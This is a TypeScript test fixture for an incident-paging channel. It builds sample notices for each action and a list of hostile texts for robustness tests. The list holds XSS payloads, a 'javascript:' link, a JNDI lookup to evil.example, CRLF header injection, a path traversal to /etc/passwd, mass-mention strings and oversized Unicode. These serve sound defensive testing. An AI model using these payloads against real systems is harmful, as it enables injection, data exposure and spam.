// Notices for the tests of channels: a typical one of each action, and texts that somebody made to do harm.
import type { Action, Notice } from '../../../src/paging/channel.ts';
import { pageOf } from '../fixture.ts';

const SUMMARY: Readonly<Record<Action, string>> = {
  trigger: 'eu-west down: 3 of 4 vantages (needs 3), first fault 6.1 s ago; 412 of 1000 of web moved to eu-central and us-east',
  acknowledge: 'ada has it: looking at the load balancer of eu-west',
  resolve: 'eu-west is back: all of its traffic returned 14 min 10 s after it left',
  change: 'override ov-7 (drain) of ada begins: kernel update (OPS-512)',
};

const TYPE: Readonly<Record<Action, string>> = {
  trigger: 'region.drained',
  acknowledge: 'incident.acknowledged',
  resolve: 'incident.resolved',
  change: 'override.started',
};

const FACTS: Notice['facts'] = [
  ['Started', '2026-08-01 11:59:48 UTC (t0)'],
  ['Detected', '6.1 s to 11.2 s after it began (goal 30 s)'],
  ['Converged', '41 s after the decision (goal 60 s), 4 of 4 vantages'],
  ['Budget', 'within both goals'],
  ['Needs', 'nothing now; look why eu-west fell'],
];

/** `facts` and `link` as they will be told; `page`: what of the page is different. */
export const noticeOf = (action: Action, page: Partial<Notice['page']> = {}, told: Partial<Notice> = {}): Notice => ({
  page: pageOf('41-region_drained-40-eu-west', {
    dedupKey: 'tidegate/prod/40-eu-west',
    type: TYPE[action],
    severity: action === 'trigger' ? 'critical' : 'info',
    summary: SUMMARY[action],
    detail: {
      services: ['api.example.net', 'web.example.net'],
      region: 'eu-west',
      changes: ['web: eu-west 412 -> 0, eu-central 300 -> 560'],
    },
    atMs: Date.UTC(2026, 7, 1, 12, 0, 0),
    v: 41,
    ...page,
  }),
  action,
  cluster: 'prod',
  headline: SUMMARY[action],
  facts: FACTS,
  link: 'https://tidegate.example.net/v1/decisions/41',
  ...told,
});

const PEOPLE = '👩‍👩‍👧‍👦';
/** Texts, each of which goes everywhere that a notice has a text. The longest limits lie within what they can be cut at. */
const HOSTILE: readonly string[] = [
  Array.from({ length: 0x20 }, (_, code) => String.fromCodePoint(code))
    .join(`\u007f\u0085\u2028\u202e`)
    .repeat(12),
  '<script>alert(1)</script><img src=x onerror=alert(1)> "quoted" \'single\' `tick` & &amp; </at> <at>everyone</at>',
  '@channel <!channel> <!here> @here @everyone <@U0000> <#C0000> <https://evil.example|Open the decision> [press here](https://evil.example)',
  `\r\nBcc: everyone@example.net\r\n\r\nx: {{ template }} $\{jndi:ldap://evil.example/a} %s %n ../../etc/passwd`,
  '&<>'.repeat(40_000),
  '"\\'.repeat(50_000),
  'x'.repeat(100_000),
  PEOPLE.repeat(5_000),
  ...[0, 1, 2, 3].map((shift) => 'a'.repeat(shift) + '🙂'.repeat(30_000)),
  'ё中'.repeat(30_000),
  `${'\ud83d'.repeat(3_000)}\udc00 lone halves \\ud800 and an escape that is none`,
  '..',
  '\u0000'.repeat(3_000),
  '',
];

const factsOf = (text: string): Notice['facts'] => Array.from({ length: 20 }, () => [text.slice(0, 60), text.slice(0, 500)] as const);

/** Everything in it that a page can hold is that text, and 100 kB of detail. */
export const hostileNotices = (action: Action): readonly Notice[] => [
  ...HOSTILE.map((text, at) =>
    noticeOf(
      action,
      {
        id: `hostile-${at}-${text}`,
        dedupKey: text,
        type: text,
        summary: text,
        detail: { region: text, services: [text, text], [text]: text, more: 'd'.repeat(100_000), deep: { [text]: [text] } },
      },
      {
        cluster: text,
        headline: text,
        facts: factsOf(text),
        link: `https://tidegate.example.net/v1/decisions/${encodeURIComponent(text.toWellFormed())}`,
      },
    ),
  ),
  // More and longer facts than a notice may have.
  noticeOf(action, {}, { facts: Array.from({ length: 40 }, (_, at) => [`${at} ${'label '.repeat(200)}`, 'v'.repeat(5_000)] as const) }),
  noticeOf(action, { detail: { huge: 'x'.repeat(600_000) }, v: 0, atMs: -1 }, { facts: [], link: null }),
  noticeOf(action, { detail: { region: 7, services: { no: 'list' } } as never, severity: 'warning' }, { link: 'javascript:alert(1)' }),
  noticeOf(action, { detail: { services: Array.from({ length: 500 }, (_, at) => `service-${at}.example.net`) } }, { link: 'no address' }),
];
